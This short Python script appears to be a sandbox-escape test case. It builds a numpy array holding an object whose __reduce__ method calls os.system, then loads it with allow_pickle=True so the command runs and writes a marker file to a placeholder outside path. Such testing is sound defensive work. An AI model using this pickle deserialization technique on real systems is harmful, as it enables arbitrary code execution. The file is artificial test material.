# aim = "outside"
# tries = "Has an array loaded whose file is a pickle that runs a command."
# needs = ["numpy"]
import io
import os

import numpy


class Loot:
    def __reduce__(self):
        return os.system, ("echo > @OUTSIDE@/planted.txt",)


stream = io.BytesIO()
numpy.save(stream, numpy.array([Loot()], dtype=object), allow_pickle=True)
stream.seek(0)
numpy.load(stream, allow_pickle=True)
